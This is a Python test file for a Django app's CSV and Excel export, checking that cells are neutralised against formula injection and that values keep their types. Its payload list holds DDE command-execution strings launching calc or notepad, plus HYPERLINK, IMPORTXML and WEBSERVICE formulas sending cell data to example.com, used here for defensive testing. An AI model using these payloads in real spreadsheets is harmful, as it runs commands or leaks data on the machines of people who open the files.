"""Promise I6: what goes out opens without running anything, and comes back as it was."""

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone

from pilots.calendar import Day, month, quarter, year
from portfolio.exchange.export import xlsx_file
from portfolio.exchange.export.answer import FileKind, answer
from portfolio.exchange.export.csv_file import PIECE, csv_pieces
from portfolio.exchange.export.table import Column, Table, table_of
from portfolio.exchange.export.xlsx_file import LONGEST_TEXT, Book, TooManyRows
from portfolio.exchange.formulas import as_meant
from tests.portfolio.exchange.export.reading import body, csv_rows, sheets

STARTS = set("=+-@\t\r")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"Open")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)*2",
    "==1",
    "= 1+1",
    "=",
    "=A1\n=B1",
    "=“x”",
    "+1+1",
    "+49 170 1234567",
    "+cmd|' /C notepad'!A0",
    "+",
    "+5 % more claims",
    "-1+1",
    "-2",
    "- by hand",
    "-cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)",
    "@claims",
    "@",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "'plain",
    "＝1+1",
    "＠SUM(1)",
    'He said "=1+1", then left; so did she',
    "a,b;c\td|e",
    "line one\r\nline two\nline three\rend",
    "_x000D_ \x0b\x1f and \ufeff 漢字 😀",
    "http://example.com/ mailto:a@example.com 2024-05 00123 1e5 TRUE",
]


def written(table: Table) -> bytes:
    file = io.BytesIO()
    with Book(file) as book:
        book.write(table)
    return file.getvalue()


def one_column(values) -> Table:
    return table_of("Texts", [Column("Text", str), Column("Again", str)], values)


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


def test_no_payload_starts_like_a_formula_in_csv_and_all_come_back():
    _, *rows = csv_rows(b"".join(csv_pieces(one_column(PAYLOADS))))

    assert [text for row in rows for text in row if text[:1] in STARTS] == []
    assert [[as_meant(text) for text in row] for row in rows] == [[text, text] for text in PAYLOADS]


def test_no_payload_starts_like_a_formula_in_xlsx_and_all_come_back_as_text():
    content = written(one_column(PAYLOADS))
    _, *rows = sheets(content)["Texts"]

    assert [text for row in rows for text in row if text[:1] in STARTS] == []
    assert [[as_meant(text) for text in row] for row in rows] == [[text, text] for text in PAYLOADS]
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert (xml.count("<f"), xml.count("hyperlink"), xml.count('t="inlineStr"')) == (0, 0, 82)


def test_header_is_made_harmless_too():
    table = Table("Own fields", ["=1+1"], [["x"]])

    assert csv_rows(b"".join(csv_pieces(table)))[0] == ["'=1+1"]
    assert sheets(written(table))["Own fields"][0] == ["'=1+1"]


VALUES = [
    pytest.param(5, "5", 5.0, id="number"),
    pytest.param(Decimal("-9.500000"), "-9.5", -9.5, id="negative decimal stays a number"),
    pytest.param(Decimal("1E+3"), "1000", 1000.0, id="no exponent"),
    pytest.param(
        Decimal("12345678901234.123456"), "12345678901234.123456", "12345678901234.123456", id="too exact"
    ),
    pytest.param(Day(date(2024, 5, 3)), "2024-05-03", date(2024, 5, 3), id="day"),
    pytest.param(month(2024, 5), "2024-05", "2024-05", id="month"),
    pytest.param(quarter(2024, 3), "Q3 2024", "Q3 2024", id="quarter"),
    pytest.param(year(2024), "2024", "2024", id="year"),
    pytest.param(date(2026, 11, 21), "2026-11-21", date(2026, 11, 21), id="date"),
    pytest.param(
        datetime(2026, 11, 21, 9, 30), "2026-11-21 09:30", datetime(2026, 11, 21, 9, 30), id="moment"
    ),
    pytest.param(None, "", "", id="nothing"),
]


@pytest.mark.parametrize(("value", "as_csv", "as_xlsx"), VALUES)
def test_value_keeps_its_kind(value, as_csv, as_xlsx):
    table = Table("Values", ["Before", "Value"], [["x", value]])

    assert csv_rows(b"".join(csv_pieces(table)))[1] == ["x", as_csv]
    found = sheets(written(table))["Values"][1]
    assert found[1:] == [as_xlsx] or (value is None and found == ["x"])


def test_csv_begins_with_a_mark_ends_lines_as_the_standard_says_and_comes_in_pieces():
    pieces = list(csv_pieces(Table("Long", ["Number"], ([f"{number:09}"] for number in range(PIECE // 5)))))

    assert b"".join(pieces).startswith(b"\xef\xbb\xbfNumber\r\n000000000\r\n")
    assert len(pieces) == 3


def test_rows_are_taken_as_pieces_are_sent():
    taken = []
    rows = (taken.append(number) or ["x" * 1000] for number in range(1000))
    pieces = csv_pieces(Table("Long", ["Text"], rows))

    next(pieces)

    assert len(taken) < 100


def test_rows_are_made_in_the_zone_of_the_reader_after_the_request_is_over():
    rows = ([timezone.get_current_timezone_name()] for _ in range(2))

    with timezone.override("Asia/Tokyo"):
        response = answer(Table("Zones", ["Zone"], rows), FileKind.CSV, "zones.csv")

    assert csv_rows(body(response))[1:] == [["Asia/Tokyo"]] * 2
    assert timezone.get_current_timezone_name() == "UTC"


def test_workbook_keeps_its_header_bold_and_in_sight():
    xml = zipfile.ZipFile(io.BytesIO(written(Table("Pilots", ["Key"], [["CLM-1"]]))))
    sheet, styles = xml.read("xl/worksheets/sheet1.xml").decode(), xml.read("xl/styles.xml").decode()

    assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in sheet
    assert '<c r="A1" s="1" t="inlineStr">' in sheet
    assert "<font><b/>" in styles


def test_text_longer_than_a_cell_is_cut_where_people_see_it():
    text = "😀" * LONGEST_TEXT

    found = sheets(written(Table("Long", ["Text"], [[text]])))["Long"][1][0]

    assert found == "😀" * (LONGEST_TEXT // 2) + "…"
    assert (
        sheets(written(Table("Long", ["Text"], [["x" * LONGEST_TEXT]])))["Long"][1][0] == "x" * LONGEST_TEXT
    )


def test_more_rows_than_a_sheet_holds_are_refused_rather_than_lost(monkeypatch):
    monkeypatch.setattr(xlsx_file, "MOST_ROWS", 3)

    assert len(sheets(written(Table("Few", ["Text"], [["x"]] * 2)))["Few"]) == 3
    with pytest.raises(TooManyRows, match="Take the CSV"):
        written(Table("Many", ["Text"], [["x"]] * 3))
